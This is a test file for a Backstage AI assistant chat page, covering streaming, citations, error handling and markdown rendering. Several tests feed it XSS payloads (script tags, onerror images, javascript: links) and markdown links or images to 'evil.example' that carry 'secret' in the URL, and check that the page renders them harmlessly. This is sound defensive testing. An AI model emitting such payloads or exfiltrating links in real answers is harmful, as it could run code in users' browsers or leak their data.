import { renderInTestApp } from '@backstage/test-utils';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { http, HttpResponse } from 'msw';
import { TestApis, BASE_URL, TestConfig } from '../../__testUtils__/apis';
import {
  ChatExchange,
  errorResponse,
  FakeBackend,
  setupFakeBackend,
} from '../../__testUtils__/fakeBackend';
import { SOURCES } from '../../__testUtils__/fixtures';
import { ChatPage } from './ChatPage';

const server = setupFakeBackend();
let backend: FakeBackend;

beforeEach(() => {
  backend = new FakeBackend();
  server.use(...backend.handlers);
});

async function renderChat(config?: TestConfig) {
  await renderInTestApp(
    <TestApis config={config}>
      <ChatPage />
    </TestApis>,
  );
}

/** Types a question and presses Enter; resolves with the request the backend got. */
async function ask(question: string): Promise<ChatExchange> {
  const exchange = backend.nextChat();
  await userEvent.type(
    screen.getByRole('textbox', { name: 'Message to the AI assistant' }),
    `${question}{Enter}`,
  );
  return exchange;
}

const answer = () =>
  screen.getByRole('article', { name: "Assistant's answer" });

describe('ChatPage', () => {
  it('shows tokens as they stream in, then offers feedback once done', async () => {
    await renderChat();
    const { request, stream } = await ask('How do we deploy payments?');
    expect(request).toEqual({
      message: 'How do we deploy payments?',
      modelId: 'ollama/llama3.1',
    });
    expect(screen.getByText('How do we deploy payments?')).toBeInTheDocument();

    stream.pushEvent(
      { type: 'conversation', data: { conversationId: 'c1', messageId: 'm1' } },
      [10],
    );
    stream.pushEvent({ type: 'sources', data: { sources: SOURCES } });
    stream.pushEvent(
      { type: 'delta', data: { text: 'Payments deploys' } },
      [5, 30],
    );
    await waitFor(() => expect(answer()).toHaveTextContent('Payments deploys'));
    expect(answer()).not.toHaveTextContent('through Argo CD');
    expect(
      screen.getByRole('button', { name: 'Stop generating' }),
    ).toBeInTheDocument();

    stream.pushEvent({ type: 'delta', data: { text: ' through Argo CD.' } });
    await waitFor(() =>
      expect(answer()).toHaveTextContent('Payments deploys through Argo CD.'),
    );
    expect(
      screen.queryByRole('button', { name: 'Good answer' }),
    ).not.toBeInTheDocument();

    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
    stream.close();
    await userEvent.click(
      await screen.findByRole('button', { name: 'Good answer' }),
    );
    await waitFor(() =>
      expect(backend.feedback).toEqual([{ messageId: 'm1', rating: 'up' }]),
    );
    expect(screen.getByRole('button', { name: 'Good answer' })).toHaveAttribute(
      'aria-pressed',
      'true',
    );
    expect(
      screen.getByRole('button', { name: 'Send message' }),
    ).toBeInTheDocument();
  });

  it('stops the answer when the stop button is pressed', async () => {
    await renderChat();
    const { stream, signal } = await ask('Explain everything');
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c1', messageId: 'm1' },
    });
    stream.pushEvent({ type: 'delta', data: { text: 'The first part' } });
    await waitFor(() => expect(answer()).toHaveTextContent('The first part'));

    await userEvent.click(
      screen.getByRole('button', { name: 'Stop generating' }),
    );
    expect(
      await screen.findByText('Stopped: the answer is incomplete.'),
    ).toBeInTheDocument();
    expect(signal.aborted).toBe(true);

    stream.pushEvent({ type: 'delta', data: { text: ' and the rest' } });
    await screen.findByRole('button', { name: 'Send message' });
    expect(answer()).not.toHaveTextContent('and the rest');
  });

  it('links numbered citations to their sources and lists the sources', async () => {
    await renderChat();
    const { stream } = await ask('How?');
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c1', messageId: 'm1' },
    });
    stream.pushEvent({ type: 'sources', data: { sources: SOURCES } });
    stream.pushEvent({
      type: 'delta',
      data: { text: 'Argo CD [1] runs it [2]; see [7]. Code: `items[1]`' },
    });
    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
    stream.close();

    const first = await screen.findByRole('link', {
      name: 'Source 1: payments: README',
    });
    expect(first).toHaveAttribute('href', SOURCES[0].url);
    expect(first).toHaveTextContent('[1]');
    expect(
      screen.getByRole('link', { name: 'Source 2: Deploying payments' }),
    ).toHaveAttribute('href', SOURCES[1].url);
    // No source 7, and code is never a citation.
    expect(answer()).toHaveTextContent('see [7]');
    expect(within(answer()).getByText('items[1]').tagName).toBe('CODE');

    const sources = within(answer()).getByRole('region', { name: 'Sources' });
    expect(
      within(sources).getByRole('link', { name: 'payments: README' }),
    ).toHaveAttribute('href', SOURCES[0].url);
    expect(sources).toHaveTextContent('component:default/payments');
  });

  it('shows why no model answered, with the sources it still found', async () => {
    backend.models = { models: [] };
    await renderChat();
    expect(
      await screen.findByText(
        /No chat model is configured: the assistant shows sources/,
      ),
    ).toBeInTheDocument();

    const { request, stream } = await ask('Who owns payments?');
    expect(request.modelId).toBeUndefined();
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c1', messageId: 'm1' },
    });
    stream.pushEvent({ type: 'sources', data: { sources: SOURCES } });
    stream.pushEvent({
      type: 'error',
      data: {
        code: 'no_model_provider',
        message:
          'No chat model is set up yet, so the assistant can only show the sources it found.',
      },
    });
    stream.close();

    const alert = await waitFor(() => within(answer()).getByRole('alert'));
    expect(alert).toHaveTextContent('No chat model is configured');
    expect(alert).toHaveTextContent('can only show the sources it found');
    expect(
      screen.getByRole('link', { name: 'payments: README' }),
    ).toBeInTheDocument();
    expect(
      screen.getByRole('link', { name: 'Deploying payments' }),
    ).toBeInTheDocument();
  });

  it('shows a failed answer of a reloaded conversation as it looked live', async () => {
    const now = new Date().toISOString();
    const message = {
      sources: SOURCES,
      toolCalls: [],
      createdAt: now,
    };
    backend.conversations.push({
      id: 'c1',
      title: 'Who owns payments?',
      createdAt: now,
      updatedAt: now,
      messages: [
        {
          ...message,
          id: 'm0',
          role: 'user',
          content: 'Who owns payments?',
          status: 'complete',
        },
        {
          ...message,
          id: 'm1',
          role: 'assistant',
          content: '',
          status: 'error',
          error:
            'No chat model is set up yet, so the assistant can only show the sources it found.',
          errorCode: 'no_model_provider',
        },
      ],
    });
    await renderChat();
    await userEvent.click(await screen.findByText('Who owns payments?'));

    const alert = await waitFor(() => within(answer()).getByRole('alert'));
    expect(alert).toHaveTextContent('No chat model is configured');
    expect(alert).toHaveTextContent('can only show the sources it found');
  });

  it('shows the error event of a model that failed midway, with the id for the administrator, keeping the partial answer', async () => {
    await renderChat();
    const { stream } = await ask('q');
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c1', messageId: 'm1' },
    });
    stream.pushEvent({ type: 'delta', data: { text: 'Half an' } });
    const errorId = '3f2b8c1e-8a4d-4e3b-9c51-2d7f0a6b1e90';
    stream.pushEvent({
      type: 'error',
      data: {
        code: 'model_error',
        errorId,
        message: `The model service stopped while answering; try again. If it persists, give your administrator this id: ${errorId}.`,
      },
    });
    stream.close();
    const alert = await waitFor(() => within(answer()).getByRole('alert'));
    expect(alert).toHaveTextContent('The model failed while answering');
    expect(alert).toHaveTextContent(
      'The model service stopped while answering; try again.',
    );
    expect(alert).toHaveTextContent(
      `give your administrator this id: ${errorId}`,
    );
    expect(answer()).toHaveTextContent('Half an');
  });

  it('says when to try again after a 429, keeping the question in the composer', async () => {
    server.use(
      http.post(
        `${BASE_URL}/chat`,
        () =>
          new HttpResponse(null, {
            status: 429,
            headers: { 'Retry-After': '42' },
          }),
      ),
    );
    await renderChat();
    await userEvent.type(
      screen.getByRole('textbox', { name: 'Message to the AI assistant' }),
      'q{Enter}',
    );
    const alert = await screen.findByRole('alert');
    expect(alert).toHaveTextContent('Your question was not sent');
    expect(alert).toHaveTextContent('Try again in 42 seconds.');
    expect(
      screen.getByRole('textbox', { name: 'Message to the AI assistant' }),
    ).toHaveValue('q');
  });

  it('says what was wrong when the server rejects the question, without its config keys', async () => {
    server.use(
      http.post(`${BASE_URL}/chat`, () =>
        errorResponse(
          413,
          'MessageTooLongError',
          'The message is 3 characters long; the limit is 2 (aiAssistant.chat.maxMessageLength).',
        ),
      ),
    );
    await renderChat();
    await userEvent.type(
      screen.getByRole('textbox', { name: 'Message to the AI assistant' }),
      'abc{Enter}',
    );
    const alert = await screen.findByRole('alert');
    expect(alert).toHaveTextContent(
      'Your question is 3 characters long. Shorten it or split it into several questions.',
    );
    expect(alert).not.toHaveTextContent('aiAssistant');
    // Nothing was stored, so nothing is shown as asked.
    expect(
      screen.queryByRole('article', { name: "Assistant's answer" }),
    ).not.toBeInTheDocument();
  });

  it('never turns HTML or images in model output into elements', async () => {
    const win = window as unknown as { __xss?: number };
    await renderChat();
    const { stream } = await ask('q');
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c1', messageId: 'm1' },
    });
    stream.pushEvent({
      type: 'delta',
      data: {
        text:
          'Hi <script>window.__xss=1</script> and <img src=x onerror="window.__xss=1">\n\n' +
          '![tracker](https://evil.example/leak?q=secret) [click](javascript:window.__xss=1)\n\n' +
          '<iframe src="https://evil.example"></iframe>',
      },
    });
    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
    stream.close();

    await waitFor(() =>
      expect(answer()).toHaveTextContent('<script>window.__xss=1</script>'),
    );
    expect(answer()).toHaveTextContent('<img src=x onerror="window.__xss=1">');
    const page = document.body;
    expect(page.querySelector('script, img, iframe')).toBeNull();
    expect(page.querySelector('[onerror]')).toBeNull();
    expect(page.querySelector('a[href^="javascript:"]')).toBeNull();
    // The image is never loaded; its host is no source's, so it is not even a link.
    expect(page.querySelector('a[href*="evil.example"]')).toBeNull();
    expect(answer()).toHaveTextContent('tracker (https://evil.example/…)');
    expect(win.__xss).toBeUndefined();
  });

  /** Streams one answer with the given sources and waits until it is complete. */
  async function streamAnswer(text: string, sources = SOURCES) {
    const { stream } = await ask('q');
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c1', messageId: 'm1' },
    });
    stream.pushEvent({ type: 'sources', data: { sources } });
    stream.pushEvent({ type: 'delta', data: { text } });
    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
    stream.close();
    await screen.findByRole('button', { name: 'Good answer' });
  }

  it('Model output can render click-to-exfiltrate links: a link to a host no source has shows as text naming the host', async () => {
    await renderChat();
    await streamAnswer(
      '[click](https://evil.example/x?d=secret), ![logo](https://evil.example/p.png?d=secret), ' +
        'https://evil.example/auto?d=secret and the [README](https://github.example/acme/payments/blob/main/README.md?plain=1).',
    );

    expect(document.querySelector('a[href*="evil.example"]')).toBeNull();
    expect(answer()).toHaveTextContent(
      'click (https://evil.example/…), logo (https://evil.example/…), https://evil.example/auto?d=secret and the README.',
    );
    // The host of a source (github.example/acme/payments#readme) stays clickable.
    expect(
      within(answer()).getByRole('link', { name: 'README' }),
    ).toHaveAttribute(
      'href',
      'https://github.example/acme/payments/blob/main/README.md?plain=1',
    );
  });

  it('Model output can render click-to-exfiltrate links: hosts on aiAssistant.chat.linkAllowList stay clickable', async () => {
    await renderChat({
      aiAssistant: {
        chat: { linkAllowList: ['kubernetes.example', '*.wiki.example'] },
      },
    });
    await streamAnswer(
      'See [the docs](https://kubernetes.example/docs?v=1), [the wiki](https://team.wiki.example/page) ' +
        'and [not this](https://wiki.example.evil.example/page).',
    );

    expect(
      within(answer()).getByRole('link', { name: 'the docs' }),
    ).toHaveAttribute('href', 'https://kubernetes.example/docs?v=1');
    expect(
      within(answer()).getByRole('link', { name: 'the wiki' }),
    ).toHaveAttribute('href', 'https://team.wiki.example/page');
    expect(
      within(answer()).queryByRole('link', { name: 'not this' }),
    ).toBeNull();
    expect(answer()).toHaveTextContent(
      'not this (https://wiki.example.evil.example/…)',
    );
  });

  it('renders GFM tables and fenced code', async () => {
    await renderChat();
    const { stream } = await ask('q');
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c1', messageId: 'm1' },
    });
    stream.pushEvent({
      type: 'delta',
      data: {
        text: '| Service | Owner |\n| --- | --- |\n| payments | team-a |\n\n```ts\nconst x = 1;\n```',
      },
    });
    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
    stream.close();
    const table = await waitFor(() => within(answer()).getByRole('table'));
    expect(
      within(table).getByRole('columnheader', { name: 'Owner' }),
    ).toBeInTheDocument();
    expect(
      within(table).getByRole('cell', { name: 'team-a' }),
    ).toBeInTheDocument();
    // Highlighted: the keyword is a token of its own, colored by the theme's code style.
    const keyword = await waitFor(() =>
      within(answer().querySelector('pre')!).getByText('const'),
    );
    expect(keyword.getAttribute('style')).toMatch(/color/);
    expect(answer().querySelector('pre')).toHaveTextContent('const x = 1;');
  });

  it('sends on Enter, adds a line on Shift+Enter, and starts from an example question', async () => {
    await renderChat();
    const box = screen.getByRole('textbox', {
      name: 'Message to the AI assistant',
    });
    await userEvent.type(box, 'line one{Shift>}{Enter}{/Shift}line two');
    expect(box).toHaveValue('line one\nline two');
    expect(backend.chats).toHaveLength(0);

    const exchange = backend.nextChat();
    await userEvent.type(box, '{Enter}');
    expect((await exchange).request.message).toBe('line one\nline two');
    expect(box).toHaveValue('');
    (await exchange).stream.close();

    await userEvent.click(
      await screen.findByRole('button', { name: 'New conversation' }),
    );
    const example = backend.nextChat();
    const examples = screen.getByRole('group', { name: 'Example questions' });
    await userEvent.click(within(examples).getAllByRole('button')[1]);
    expect((await example).request.message).toBe('How do I deploy a service?');
  });

  it('offers example questions about what is indexed, when the server suggests some', async () => {
    backend.exampleQuestions = [
      'What does payments-service do, and who owns it?',
      'How do I call the orders-api API?',
    ];
    await renderChat();
    const examples = screen.getByRole('group', { name: 'Example questions' });
    const suggested = await within(examples).findByRole('button', {
      name: 'How do I call the orders-api API?',
    });
    expect(within(examples).getAllByRole('button')).toHaveLength(2);

    const exchange = backend.nextChat();
    await userEvent.click(suggested);
    expect((await exchange).request.message).toBe(
      'How do I call the orders-api API?',
    );
  });

  it('continues the conversation and lets the user pick another model', async () => {
    await renderChat();
    const first = await ask('first');
    first.stream.pushEvent({
      type: 'conversation',
      data: {
        conversationId: '11111111-1111-4111-8111-111111111111',
        messageId: 'm1',
      },
    });
    first.stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
    first.stream.close();
    await screen.findByRole('button', { name: 'Send message' });

    const picker = screen.getByRole('button', { name: /^Model / });
    expect(picker).toHaveTextContent('llama3.1 (Ollama)');
    await userEvent.click(picker);
    await userEvent.click(
      await screen.findByRole('option', { name: 'gpt-4o (Azure AI)' }),
    );
    const second = await ask('second');
    expect(second.request).toEqual({
      message: 'second',
      conversationId: '11111111-1111-4111-8111-111111111111',
      modelId: 'azure-ai/gpt-4o',
    });
    second.stream.close();
  });
  it('shows the title the server gives a new conversation after its first answer', async () => {
    await renderChat();
    const { stream } = await ask('How do we deploy payments?');
    const now = new Date().toISOString();
    // The server stores the conversation under the question, and names it in the background
    // only after the answer has ended.
    backend.conversations.push({
      id: 'c9',
      title: 'How do we deploy payments?',
      createdAt: now,
      updatedAt: now,
      messages: [],
    });
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c9', messageId: 'm9' },
    });
    stream.pushEvent({ type: 'sources', data: { sources: [] } });
    stream.pushEvent({ type: 'delta', data: { text: 'Through Argo CD.' } });
    stream.pushEvent({ type: 'done', data: { messageId: 'm9' } });
    stream.close();
    await screen.findByRole('button', { name: 'Good answer' });
    // Let the list re-read that follows the answer land before the title changes.
    await new Promise(resolve => setTimeout(resolve, 300));
    backend.conversations[0].title = 'Deploying payments';

    expect(
      await screen.findByText('Deploying payments', undefined, {
        timeout: 5000,
      }),
    ).toBeInTheDocument();
  });
});
